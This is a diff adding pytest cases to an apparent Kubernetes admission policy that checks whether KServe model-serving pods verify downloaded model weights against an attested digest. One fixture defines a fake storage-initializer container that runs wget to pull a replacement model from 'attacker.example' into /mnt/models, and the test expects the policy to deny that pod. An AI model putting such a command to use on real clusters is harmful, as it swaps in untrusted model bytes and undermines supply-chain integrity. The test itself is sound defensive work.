@@ -197,3 +197,75 @@ def test_an_init_container_after_the_verifier_can_replace_the_bytes(
     assert not allowed and "SC-POD-START-VERIFY" in controls
     fetch_then_verify = deployment(evidence(digest), [vllm(ATTESTED_URI)], [swap, verifier(digest)])
     assert decide(engine, fetch_then_verify) == (True, set())
+
+
+# -- attack: claiming KServe's verifying storage initializer ------------------------------
+
+
+def kserve_pod_template(digest: str, init: list[dict[str, Any]] | None = None) -> dict[str, Any]:
+    annotations = {**evidence(digest), KSERVE_SOURCE: ATTESTED_URI}
+    server = {
+        "name": "kserve-container",
+        "image": "kserve/sklearnserver:v0.14.1",
+        "args": ["--model_name=credit", "--model_dir=/mnt/models"],
+    }
+    return deployment(annotations, [server], init, owner=OWNER)
+
+
+def test_kserve_controller_child_still_counts_as_verified(kserve_engine: Any, digest: str) -> None:
+    assert decide(kserve_engine, kserve_pod_template(digest), KSERVE) == (True, set())
+
+
+def test_a_deployer_cannot_claim_the_kserve_storage_initializer(
+    kserve_engine: Any, digest: str
+) -> None:
+    """The source-URI annotation is KServe's; written by a person, nothing injects (or
+    verifies) the download into /mnt/models."""
+    allowed, controls = decide(kserve_engine, kserve_pod_template(digest), RELEASE)
+    assert not allowed and "SC-POD-START-VERIFY" in controls
+
+
+def test_an_own_storage_initializer_stops_kserve_injecting_the_verifier(
+    kserve_engine: Any, digest: str
+) -> None:
+    """KServe does not inject its storage initializer when one is already there."""
+    own = {
+        "name": "storage-initializer",
+        "image": "busybox:1.36",
+        "command": ["sh", "-c", "wget -O /mnt/models/model.onnx http://attacker.example/m"],
+    }
+    allowed, controls = decide(kserve_engine, kserve_pod_template(digest, [own]), KSERVE)
+    assert not allowed and "SC-POD-START-VERIFY" in controls
+
+
+def test_a_pod_with_the_injected_verifying_initializer_is_allowed(
+    kserve_engine: Any, digest: str
+) -> None:
+    """After KServe injected the verifying ClusterStorageContainer, the Pod shows it."""
+    template = kserve_pod_template(digest)["spec"]["template"]
+    injected = {
+        "name": "storage-initializer",
+        "image": VERIFIER,
+        "args": [ATTESTED_URI, "/mnt/models"],
+        "env": [
+            {
+                "name": "MLGATE_EXPECT_DIGEST",
+                "valueFrom": {
+                    "fieldRef": {"fieldPath": "metadata.annotations['mlgate.io/model-digest']"}
+                },
+            }
+        ],
+    }
+    owner = {**OWNER, "apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "credit-abc"}
+    pod = {
+        "apiVersion": "v1",
+        "kind": "Pod",
+        "metadata": {**template["metadata"], "namespace": "ml-prod", "ownerReferences": [owner]},
+        "spec": {**template["spec"], "initContainers": [injected]},
+    }
+    pod["metadata"]["name"] = "credit-abc-x1"
+    rs_controller = RequestInfo(username="system:serviceaccount:kube-system:replicaset-controller")
+    assert decide(kserve_engine, pod, rs_controller) == (True, set())
+    pod["spec"]["initContainers"][0]["image"] = "busybox:1.36"
+    allowed, controls = decide(kserve_engine, pod, rs_controller)
+    assert not allowed and "SC-POD-START-VERIFY" in controls
